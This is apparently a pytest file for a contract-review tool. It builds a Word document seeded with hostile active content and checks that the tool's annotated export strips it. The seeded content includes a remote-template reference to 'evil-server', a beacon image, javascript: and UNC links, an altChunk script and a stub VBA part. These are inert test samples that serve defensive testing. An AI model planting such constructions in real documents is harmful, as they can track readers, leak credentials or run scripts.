"""The annotated copy of a hostile Word contract carries nothing active (issue 15)."""

from __future__ import annotations

import hashlib
import io
import re
import zipfile
from pathlib import Path

import docx

from ito_desktop.core.library.schema import Library
from ito_desktop.core.review import review
from ito_desktop.export.annotated_docx import AnnotatedDocxExporter
from ito_desktop.export.base import ExportOptions
from ito_desktop.export.inert import make_inert
from tests.conftest import SAMPLES

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_HOSTILE_RELS = (
    f'<Relationship Id="rIdX1" Type="{_REL}/image" Target="http://beacon.example/p.png" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX2" Type="{_REL}/hyperlink" Target="javascript:alert(1)" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX3" Type="{_REL}/hyperlink" Target="\\\\server\\share\\x.docx" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX4" Type="{_REL}/subDocument" Target="file:///C:/x/sub.docx" '
    'TargetMode="External"/>'
    f'<Relationship Id="rIdX5" Type="{_REL}/aFChunk" Target="chunk.mht"/>'
    '<Relationship Id="rIdX6" Type="http://schemas.microsoft.com/office/2006/relationships/'
    'vbaProject" Target="vbaProject.bin"/>'
    f'<Relationship Id="rIdX7" Type="{_REL}/hyperlink" Target="https://example.com/terms" '
    'TargetMode="External"/>'
)


def _hostile_copy(tmp_path: Path) -> Path:
    """The sample contract with active content of every kind the issue names."""
    source = SAMPLES / "sample_msa.docx"
    target = tmp_path / "hostile.docx"
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>", _HOSTILE_RELS.encode() + b"</Relationships>"
                )
            elif info.filename == "word/settings.xml":
                data = re.sub(
                    rb"(<w:settings[^>]*>)",
                    rb'\1<w:attachedTemplate r:id="rIdT1"/><w:updateFields w:val="true"/>',
                    data,
                    count=1,
                )
                if b'xmlns:r="' not in data:
                    data = data.replace(
                        b"<w:settings ", f'<w:settings xmlns:r="{_REL}" '.encode(), 1
                    )
            elif info.filename == "word/document.xml":
                data = data.replace(b"</w:body>", b'<w:altChunk r:id="rIdX5"/></w:body>', 1)
            elif info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"</Types>",
                    b'<Override PartName="/word/vbaProject.bin" '
                    b'ContentType="application/vnd.ms-office.vbaProject"/>'
                    b'<Override PartName="/word/chunk.mht" ContentType="message/rfc822"/></Types>',
                )
            new.writestr(info, data)
        new.writestr(
            "word/_rels/settings.xml.rels",
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rIdT1" Type="{_REL}/attachedTemplate" '
            'Target="file://evil-server/share/t.dotm" TargetMode="External"/></Relationships>',
        )
        new.writestr("word/chunk.mht", "<html><script>alert(1)</script></html>")
        new.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not really VBA")
    return target


def _external_targets(package: zipfile.ZipFile) -> list[str]:
    targets = []
    for name in package.namelist():
        if name.endswith(".rels"):
            text = package.read(name).decode("utf-8")
            targets += re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text)
    return targets


def test_the_annotated_copy_of_a_hostile_contract_is_inert(
    library: Library, tmp_path: Path
) -> None:
    contract = _hostile_copy(tmp_path)
    before = hashlib.sha256(contract.read_bytes()).hexdigest()
    result = review(contract, library)
    out = tmp_path / "annotated.docx"
    AnnotatedDocxExporter().write(result, None, ExportOptions(), out)
    assert hashlib.sha256(contract.read_bytes()).hexdigest() == before  # input untouched
    with zipfile.ZipFile(out) as package:
        names = set(package.namelist())
        assert "word/vbaProject.bin" not in names
        assert "word/chunk.mht" not in names
        settings = package.read("word/settings.xml")
        assert b"attachedTemplate" not in settings
        assert b"updateFields" not in settings
        assert b"altChunk" not in package.read("word/document.xml")
        assert b"vbaProject" not in package.read("[Content_Types].xml")
        rels = "".join(package.read(n).decode() for n in names if n.endswith(".rels"))
        for kind in ("attachedTemplate", "subDocument", "aFChunk", "vbaProject"):
            assert f'/{kind}"' not in rels, kind
        targets = _external_targets(package)
    # The beacon image and the script / UNC links point nowhere; an ordinary web link stays.
    assert "https://example.com/terms" in targets
    assert not [t for t in targets if t not in ("https://example.com/terms", "about:blank")]
    copy = docx.Document(str(out))  # still a Word document python-docx (and Word) can open
    top = next(c.text for c in copy.comments if c.text.startswith("ITO Review"))
    assert "This copy is inert: it leaves out" in top
    assert "the attached template" in top


def test_an_ordinary_contract_is_left_as_it_is() -> None:
    original = (SAMPLES / "sample_msa.docx").read_bytes()
    inert, removed = make_inert(original)
    assert removed == []
    with zipfile.ZipFile(SAMPLES / "sample_msa.docx") as a, zipfile.ZipFile(io.BytesIO(inert)) as b:
        assert a.namelist() == b.namelist()
        assert all(a.read(n) == b.read(n) for n in a.namelist())
